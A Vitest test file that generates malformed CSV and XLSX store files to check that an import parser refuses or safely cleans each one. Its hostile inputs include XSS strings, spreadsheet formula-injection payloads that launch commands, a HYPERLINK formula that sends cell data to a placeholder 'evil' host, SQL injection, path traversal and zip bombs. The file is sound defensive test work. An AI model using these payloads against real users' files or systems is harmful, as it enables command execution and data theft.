/**
 * Issue 7: a generated corpus of malformed store files (CSV and XLSX). Each must be refused with
 * a problem list or imported cleaned, never throw, and never yield a store from a refused file.
 * The corpus is deterministic (seeded), so a failure names a reproducible case.
 */
import { describe, expect, it } from 'vitest'
import iconv from 'iconv-lite'
import { parseStoreFile } from '../../src/io/store-import'
import { writeWorkbook } from '../../src/io/xlsx'
import type { CellValue } from '../../src/io/spreadsheet-safety'

interface Case {
  name: string
  file: string
  bytes: Uint8Array
  /** 'refuse': must have problems; 'clean': must import; 'either': only no throw + invariants. */
  expect: 'refuse' | 'clean' | 'either'
}

function rng(seed: number): () => number {
  let s = seed >>> 0
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0
    return s / 2 ** 32
  }
}

const HEADER_EN = ['code', 'name', 'province', 'city', 'level', 'type']
const HEADER_ZH = ['营业厅编码', '营业厅名称', '省份', '地市', '等级', '类型']
const GOOD_ROW = ['GD001', '广州天河营业厅', '广东', '广州', '1', '自营厅']

const NASTY_NAMES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(1)>',
  '=HYPERLINK("http://evil/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '＝1+1',
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  '\u202Eevil\u202C',
  'zero\u200Bwidth',
  'bell\u0007char',
  "Robert'); DROP TABLE stores;--",
  '../../etc/passwd',
  '%s%s%n',
  '\uD83D\uDE00 emoji',
]

const csvLine = (cells: string[]): string =>
  cells.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')
const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s)

async function corpus(): Promise<Case[]> {
  const r = rng(20260401)
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T
  const cases: Case[] = []
  const add = (c: Case): void => {
    cases.push(c)
  }

  // 1. Wrong encodings and binary junk.
  for (let i = 0; i < 25; i++) {
    const len = 16 + Math.floor(r() * 3000)
    add({
      name: `junk-${i}`,
      file: 'stores.csv',
      bytes: Uint8Array.from({ length: len }, () => Math.floor(r() * 256)),
      expect: 'refuse',
    })
  }
  for (const enc of ['utf-16le', 'utf-16be']) {
    const text = [HEADER_ZH, GOOD_ROW].map(csvLine).join('\n')
    add({
      name: `${enc}-no-bom`,
      file: 'stores.csv',
      bytes: iconv.encode(text, enc),
      expect: 'refuse',
    })
    add({
      name: `${enc}-bom`,
      file: 'stores.csv',
      bytes: iconv.encode(text, enc, { addBOM: true }),
      expect: 'clean',
    })
  }
  for (const enc of ['gbk', 'gb18030', 'big5', 'shift_jis', 'latin1']) {
    const text = [HEADER_ZH, GOOD_ROW].map(csvLine).join('\n')
    // Big5/Shift-JIS bytes are read as GBK: garbled but "valid", so the headers no longer match.
    add({
      name: `encoding-${enc}`,
      file: 'stores.csv',
      bytes: iconv.encode(text, enc),
      expect: enc.startsWith('gb') ? 'clean' : 'either',
    })
  }
  // UTF-8 cut in the middle of a character, then GBK-invalid.
  add({
    name: 'utf8-truncated-char',
    file: 'stores.csv',
    bytes: utf8(`${csvLine(HEADER_ZH)}\n${csvLine(GOOD_ROW)}`).slice(0, -1),
    expect: 'either',
  })
  add({ name: 'empty', file: 'stores.csv', bytes: new Uint8Array(), expect: 'refuse' })
  add({
    name: 'bom-only',
    file: 'stores.csv',
    bytes: new Uint8Array([0xef, 0xbb, 0xbf]),
    expect: 'refuse',
  })
  add({ name: 'whitespace-only', file: 'stores.csv', bytes: utf8(' \n\n\t\n'), expect: 'refuse' })
  add({
    name: 'old-xls',
    file: 'stores.xls',
    bytes: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
    expect: 'refuse',
  })
  add({
    name: 'xlsx-ext-but-csv',
    file: 'stores.xlsx',
    bytes: utf8(csvLine(HEADER_EN)),
    expect: 'refuse',
  })

  // 2. Missing, renamed, duplicated columns.
  for (let i = 0; i < HEADER_EN.length; i++) {
    const header = HEADER_EN.filter((_, j) => j !== i)
    const row = GOOD_ROW.filter((_, j) => j !== i)
    add({
      name: `missing-column-${HEADER_EN[i]}`,
      file: 'stores.csv',
      bytes: utf8([header, row].map(csvLine).join('\n')),
      expect: 'refuse',
    })
  }
  add({
    name: 'no-header',
    file: 'stores.csv',
    bytes: utf8([GOOD_ROW, GOOD_ROW].map(csvLine).join('\n')),
    expect: 'refuse',
  })
  add({
    name: 'header-only',
    file: 'stores.csv',
    bytes: utf8(csvLine(HEADER_EN)),
    expect: 'refuse',
  })
  add({
    name: 'dup-column',
    file: 'stores.csv',
    bytes: utf8(['code,编码,name,province,city,level,type', 'A,A,n,p,c,1,self'].join('\n')),
    expect: 'refuse',
  })

  // 3. Wrong types and values in every column, one bad cell per file.
  const badValues: Record<number, string[]> = {
    0: ['', '   ', '\u0007'],
    1: [''],
    2: [''],
    3: [''],
    4: ['0', '5', '五级', 'one', '1.5', '-1', '', '1e0', 'NaN', 'true', '2026-01-01'],
    5: ['', '加盟', 'franchise', '1', 'TRUE', 'self partner'],
  }
  for (const [col, values] of Object.entries(badValues)) {
    for (const v of values) {
      const row = [...GOOD_ROW]
      row[Number(col)] = v
      add({
        name: `bad-${HEADER_EN[Number(col)]}-${JSON.stringify(v)}`,
        file: 'stores.csv',
        bytes: utf8(
          [HEADER_EN, GOOD_ROW.map((c, i) => (i === 0 ? 'OK1' : c)), row].map(csvLine).join('\n'),
        ),
        expect: 'refuse',
      })
    }
  }

  // 4. HTML, script and formula text in names: kept as text (clean), never refused for that.
  for (const [i, name] of NASTY_NAMES.entries()) {
    for (const header of [HEADER_EN, HEADER_ZH]) {
      const row = [`N${i}`, name, '广东', '广州', '2', 'self']
      add({
        name: `nasty-name-${i}-${header[0]}`,
        file: 'stores.csv',
        bytes: utf8([header, row].map(csvLine).join('\r\n')),
        expect: 'clean',
      })
    }
  }

  // 4b. Codes outside the one alphabet (src/domain/store-code.ts), and codes that are the same
  // store in another case or width: refused, as the store form refuses them.
  for (const code of ['A/B?x=1#y', '../../etc/passwd', 'JS 001', 'a.b', '店001', 'JS\u202E001/x']) {
    add({
      name: `bad-code-${JSON.stringify(code)}`,
      file: 'stores.csv',
      bytes: utf8([HEADER_EN, [code, ...GOOD_ROW.slice(1)]].map(csvLine).join('\n')),
      expect: 'refuse',
    })
  }
  for (const twin of ['gd001', 'ＧＤ００１', 'Gd001']) {
    add({
      name: `same-code-${twin}`,
      file: 'stores.csv',
      bytes: utf8([HEADER_EN, GOOD_ROW, [twin, ...GOOD_ROW.slice(1)]].map(csvLine).join('\n')),
      expect: 'refuse',
    })
  }

  // 5. Structure: 1 MB single line, unterminated quotes, ragged rows, huge cell, many columns.
  add({
    name: '1mb-single-line',
    file: 'stores.csv',
    bytes: utf8('x'.repeat(1024 * 1024)),
    expect: 'refuse',
  })
  add({
    name: '1mb-single-line-commas',
    file: 'stores.csv',
    bytes: utf8('a,'.repeat(512 * 1024)),
    expect: 'refuse',
  })
  add({
    name: '1mb-cell',
    file: 'stores.csv',
    bytes: utf8(
      [csvLine(HEADER_EN), csvLine(['A', 'n'.repeat(1024 * 1024), 'p', 'c', '1', 'self'])].join(
        '\n',
      ),
    ),
    expect: 'refuse',
  })
  add({
    name: 'unterminated-quote',
    file: 'stores.csv',
    bytes: utf8(`${csvLine(HEADER_EN)}\nA,"open,p,c,1,self\nB,n,p,c,1,self\n`),
    expect: 'refuse',
  })
  add({
    name: 'ragged-short',
    file: 'stores.csv',
    bytes: utf8(`${csvLine(HEADER_EN)}\nA,n,p\n`),
    expect: 'refuse',
  })
  add({
    name: 'ragged-long',
    file: 'stores.csv',
    bytes: utf8(`${csvLine(HEADER_EN)}\nA,n,p,c,1,self,x,y,z\n`),
    expect: 'clean',
  })
  add({
    name: 'many-columns',
    file: 'stores.csv',
    bytes: utf8(
      `${[...HEADER_EN, ...Array.from({ length: 5000 }, (_, i) => `x${i}`)].join(',')}\nA,n,p,c,1,self\n`,
    ),
    expect: 'clean',
  })
  add({
    name: 'nul-in-middle',
    file: 'stores.csv',
    bytes: utf8(`${csvLine(HEADER_EN)}\nA,n\u0000,p,c,1,self\n`),
    expect: 'refuse',
  })
  add({
    name: 'too-many-rows',
    file: 'stores.csv',
    bytes: utf8(
      [csvLine(HEADER_EN), ...Array.from({ length: 100_001 }, (_, i) => `S${i},n,p,c,1,self`)].join(
        '\n',
      ),
    ),
    expect: 'refuse',
  })

  // 6. Random mutations of a valid file: byte flips, truncations, duplicated lines.
  const valid = utf8(
    [
      HEADER_ZH,
      ...Array.from({ length: 30 }, (_, i) => [
        `GD${100 + i}`,
        `营业厅${i}`,
        '广东',
        pick(['广州', '深圳', '佛山']),
        String(1 + (i % 4)),
        pick(['自营厅', '社会合作厅']),
      ]),
    ]
      .map(csvLine)
      .join('\r\n'),
  )
  for (let i = 0; i < 40; i++) {
    const bytes = valid.slice()
    const flips = 1 + Math.floor(r() * 6)
    for (let f = 0; f < flips; f++) bytes[Math.floor(r() * bytes.length)] = Math.floor(r() * 256)
    add({ name: `flip-${i}`, file: 'stores.csv', bytes, expect: 'either' })
  }
  for (let i = 0; i < 15; i++)
    add({
      name: `truncate-${i}`,
      file: 'stores.csv',
      bytes: valid.slice(0, Math.floor(r() * valid.length)),
      expect: 'either',
    })

  // 7. XLSX: formula cells, wrong types, truncated and corrupted zips, empty workbook.
  const xlsx = (rows: CellValue[][], header = HEADER_ZH): Promise<Uint8Array> =>
    // A fixed date: the zip's timestamps are then fixed too, so the damaged cases below are the
    // same bytes on every run.
    writeWorkbook([{ name: 's', headers: header, rows }], {
      neutralise: false,
      created: new Date(2026, 0, 1),
    })
  const goodXlsx = await xlsx([['GD001', '天河', '广东', '广州', 1, '自营厅']])
  for (let i = 0; i < 20; i++)
    add({
      name: `xlsx-truncated-${i}`,
      file: 'stores.xlsx',
      bytes: goodXlsx.slice(0, 4 + Math.floor(r() * (goodXlsx.length - 8))),
      expect: 'refuse',
    })
  for (let i = 0; i < 10; i++) {
    const bytes = goodXlsx.slice()
    for (let f = 0; f < 20; f++)
      bytes[30 + Math.floor(r() * (bytes.length - 30))] = Math.floor(r() * 256)
    add({ name: `xlsx-corrupt-${i}`, file: 'stores.xlsx', bytes, expect: 'either' })
  }
  add({ name: 'xlsx-clean', file: 'stores.xlsx', bytes: goodXlsx, expect: 'clean' })
  for (const [i, name] of NASTY_NAMES.entries()) {
    add({
      name: `xlsx-nasty-${i}`,
      file: 'stores.xlsx',
      bytes: await xlsx([[`X${i}`, name, '广东', '广州', 3, 'partner']]),
      expect: 'clean',
    })
  }
  add({
    name: 'xlsx-level-as-date',
    file: 'stores.xlsx',
    bytes: await xlsx([['D1', 'n', 'p', 'c', new Date(0), 'self']]),
    expect: 'refuse',
  })
  add({
    name: 'xlsx-level-bool',
    file: 'stores.xlsx',
    bytes: await xlsx([['D1', 'n', 'p', 'c', true, 'self']]),
    expect: 'refuse',
  })
  add({
    name: 'xlsx-code-number',
    file: 'stores.xlsx',
    bytes: await xlsx([[10001, 'n', 'p', 'c', 2, 'self']]),
    expect: 'clean',
  })
  add({ name: 'xlsx-header-only', file: 'stores.xlsx', bytes: await xlsx([]), expect: 'refuse' })
  add({
    name: 'xlsx-missing-columns',
    file: 'stores.xlsx',
    bytes: await xlsx([['a', 'b']], ['foo', 'bar']),
    expect: 'refuse',
  })
  {
    const { loadExcel } = await import('../helpers/exceljs')
    const ExcelJS = await loadExcel()
    const wb = new ExcelJS.Workbook()
    const ws = wb.addWorksheet('s')
    ws.addRow(HEADER_EN)
    ws.addRow([
      'F1',
      { formula: 'HYPERLINK("http://evil","x")', result: 'x' },
      '广东',
      '广州',
      { formula: '1+0', result: 1 },
      'self',
    ])
    ws.addRow(['F2', { formula: 'A1&"厅"' }, '广东', '广州', 2, 'self'])
    add({
      name: 'xlsx-formula-cells',
      file: 'stores.xlsx',
      bytes: new Uint8Array(await wb.xlsx.writeBuffer()),
      expect: 'refuse',
    })
    const wb2 = new ExcelJS.Workbook()
    wb2.addWorksheet('s').addRow(HEADER_EN)
    wb2
      .getWorksheet('s')!
      .addRow(['F1', { formula: 'CONCAT("a","b")', result: 'ab' }, '广东', '广州', 1, 'self'])
    add({
      name: 'xlsx-formula-with-result',
      file: 'stores.xlsx',
      bytes: new Uint8Array(await wb2.xlsx.writeBuffer()),
      expect: 'clean',
    })
    const empty = new ExcelJS.Workbook()
    empty.addWorksheet('empty')
    add({
      name: 'xlsx-empty-sheet',
      file: 'stores.xlsx',
      bytes: new Uint8Array(await empty.xlsx.writeBuffer()),
      expect: 'refuse',
    })
  }
  // A zip that is not a workbook.
  const { zipSync } = await import('fflate')
  add({
    name: 'zip-not-xlsx',
    file: 'stores.xlsx',
    bytes: zipSync({ 'hello.txt': utf8('hi') }),
    expect: 'refuse',
  })
  add({
    name: 'zip-deep-nesting',
    file: 'stores.xlsx',
    bytes: zipSync({
      [`${'a/'.repeat(200)}x.xml`]: utf8(`${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`),
    }),
    expect: 'refuse',
  })
  // 8. Spreadsheet bombs (issue 15): a sheet deflated past the ratio limit, a directory that
  // understates the sheet, many small high-ratio parts. Each refused before SheetJS reads it.
  const { xlsxBomb, xlsxGigaBomb, lieAboutSize } = await import('../helpers/xlsx-bomb')
  add({
    name: 'xlsx-bomb-ratio',
    file: 'stores.xlsx',
    bytes: await xlsxBomb(150_000),
    expect: 'refuse',
  })
  add({
    name: 'xlsx-bomb-liar',
    file: 'stores.xlsx',
    bytes: lieAboutSize(await xlsxBomb(20_000), 900),
    expect: 'refuse',
  })
  add({
    name: 'xlsx-bomb-64mb-liar',
    file: 'stores.xlsx',
    bytes: (await xlsxGigaBomb(64 * 1024 * 1024, { declared: 900_000 })).bytes,
    expect: 'refuse',
  })
  {
    const { unzipSync } = await import('fflate')
    const files: Record<string, Uint8Array> = unzipSync(goodXlsx)
    for (let i = 0; i < 40; i++) files[`xl/media/f${i}.xml`] = utf8('<x>BOMB</x>'.repeat(90_000))
    add({
      name: 'xlsx-bomb-many-parts',
      file: 'stores.xlsx',
      bytes: zipSync(files),
      expect: 'refuse',
    })
  }
  return cases
}

describe('malformed store files (issue 7 corpus)', () => {
  it('refuses or cleans every file, never throws, never half-imports', async () => {
    const cases = await corpus()
    expect(cases.length).toBeGreaterThanOrEqual(200)
    const failures: string[] = []
    const outcome = { refused: 0, cleaned: 0 }
    for (const c of cases) {
      let result
      try {
        result = await parseStoreFile(c.bytes, c.file)
      } catch (e) {
        failures.push(`${c.name}: threw ${String(e)}`)
        continue
      }
      const refused = result.problems.length > 0
      if (refused) outcome.refused++
      else outcome.cleaned++
      // All-or-nothing, with a message for every problem.
      if (refused && result.stores.length > 0)
        failures.push(`${c.name}: refused but returned stores`)
      if (!refused && result.stores.length === 0)
        failures.push(`${c.name}: no problem and no store`)
      for (const p of result.problems)
        if (!p.message || !p.code) failures.push(`${c.name}: problem without message`)
      if (c.expect === 'refuse' && !refused)
        failures.push(`${c.name}: expected refusal, got ${result.stores.length} stores`)
      if (c.expect === 'clean' && refused)
        failures.push(
          `${c.name}: expected import, got ${result.problems.map((p) => p.code).join(',')}`,
        )
      for (const s of result.stores) {
        // Cleaned: no control, zero-width or bidi characters survive; markup stays literal text.
        for (const v of Object.values(s)) {
          if (
            typeof v === 'string' &&
            // eslint-disable-next-line no-control-regex
            /[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/.test(v)
          )
            failures.push(`${c.name}: control char kept in ${JSON.stringify(v)}`)
        }
        if (![1, 2, 3, 4].includes(s.level) || !['self', 'partner'].includes(s.type))
          failures.push(`${c.name}: invalid store ${JSON.stringify(s)}`)
      }
    }
    expect(failures).toEqual([])
    expect(outcome.refused).toBeGreaterThan(100)
    expect(outcome.cleaned).toBeGreaterThan(30)
  }, 120_000)

  it('keeps markup in names as literal text', async () => {
    const r = await parseStoreFile(
      utf8(`${csvLine(HEADER_EN)}\n${csvLine(['A', NASTY_NAMES[1]!, 'p', 'c', '1', 'self'])}\n`),
      's.csv',
    )
    expect(r.stores[0]?.name).toBe('<img src=x onerror=alert(document.cookie)>')
  })
})
